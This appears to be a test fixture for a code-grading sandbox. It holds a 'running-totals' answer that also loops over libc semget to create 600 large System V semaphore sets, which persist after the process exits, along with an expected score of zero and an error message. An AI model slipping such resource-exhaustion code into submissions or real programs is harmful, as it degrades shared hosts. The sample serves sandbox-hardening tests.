"""Makes arrays of semaphores, which are memory of no process."""

GETS = 0
SAYS = "name 'running_totals' is not defined"
ANSWERS = {
    "running-totals": """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
made = []
for _ in range(600):
    number = libc.semget(0, 32000, 0o600 | 0o1000)
    if number < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    made.append(number)

def running_totals(numbers):
    return [sum(numbers[: place + 1]) for place in range(len(numbers))]
""",
}
